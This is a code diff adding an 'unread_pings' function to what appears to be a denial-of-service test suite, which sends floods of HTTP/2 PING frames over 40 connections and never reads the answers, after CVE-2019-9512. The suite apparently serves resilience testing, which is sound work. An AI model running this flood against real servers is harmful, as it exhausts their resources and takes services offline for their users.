@@ -1,6 +1,7 @@
 """A caller without any key: connections, floods of cheap and of costly calls, answers that nobody reads, half requests."""
 
 import collections
+import contextlib
 import os
 import socket
 import struct
@@ -435,6 +436,29 @@ def ping_flood(target, stop):
             time.sleep(0.01)
     finally:
         connection.close()
+
+
+@attack("unread_pings", "caller", brief=True)
+def unread_pings(target, stop):
+    """40 connections that send 3 MB of pings each and take no answer (CVE-2019-9512)"""
+    batch = frame(PING, 0, 0, bytes(8)) * 2000
+    connections = []
+    try:
+        while not stop():
+            if len(connections) == 40:
+                time.sleep(0.2)
+                continue
+            one = target.connect()
+            connections.append(one)
+            one.socket.settimeout(0.5)
+            sent = 0
+            with contextlib.suppress(OSError):  # the node takes no more
+                while sent < 3_000_000 and not stop():
+                    sent += one.socket.send(batch)
+            target.did()
+    finally:
+        for one in connections:
+            one.close()
 
 
 @attack("large_headers", "caller")
